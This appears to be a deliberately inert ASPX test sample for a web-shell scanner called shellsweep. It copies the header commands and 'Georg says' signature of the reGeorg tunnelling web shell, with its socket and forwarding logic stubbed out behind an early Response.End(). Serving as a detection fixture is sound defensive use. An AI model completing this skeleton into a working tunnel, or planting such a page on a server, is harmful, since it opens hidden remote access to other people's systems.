<%@ Page Language="C#" EnableSessionState="True"%>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<%-- shellsweep test sample: inert, never functional --%>
<% Response.End(); %>
<%
String cmd = Request.Headers.Get("X-CMD");
if (cmd == "CONNECT") { Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); Session.Add("socket", s); Response.AddHeader("X-STATUS", "OK"); }
else if (cmd == "DISCONNECT") { Session.Abandon(); }
else if (cmd == "FORWARD") { byte[] b = new byte[Request.ContentLength]; Request.InputStream.Read(b, 0, Request.ContentLength); }
else if (cmd == "READ") { Response.BinaryWrite(new byte[0]); }
else { Response.Write("Georg says, 'All seems fine'"); }
%>
